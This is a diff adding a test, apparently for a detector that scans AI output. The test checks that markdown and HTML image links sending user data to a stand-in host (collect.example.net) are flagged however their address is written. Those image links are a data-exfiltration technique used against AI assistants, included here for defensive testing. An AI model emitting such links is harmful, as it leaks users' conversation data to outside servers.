@@ -101,3 +101,17 @@ def test_a_decoded_text_is_text_whatever_white_space_and_invisible_signs_it_has(
     parted |= {blank: blank.join(["Bring", "the", "ferry"]) for blank in ("\u00a0", "\u2003", "\u2028")}
     assert [said for said in parted.values() if not is_text(said) or not is_mostly_letters(said)] == []
     assert not is_text("\u200b" * 40)
+
+
+def test_an_image_that_carries_data_away_is_found_however_its_address_is_written() -> None:
+    images = (
+        "![x](HTTPS://{})",
+        "![x](//{})",
+        "![x]( <Https://{}>)",
+        '<IMG ALT="x" SRC="http://{}">',
+        "<img src=//{} />",
+    )
+    for image in images:
+        address = "collect.example.net/p?d={user data}"
+        assert "this link carries data away: user data" in said(f"Plan: {image.format(address)}"), image
+    assert not said("call(a); // see /docs?d={conversation_history}")
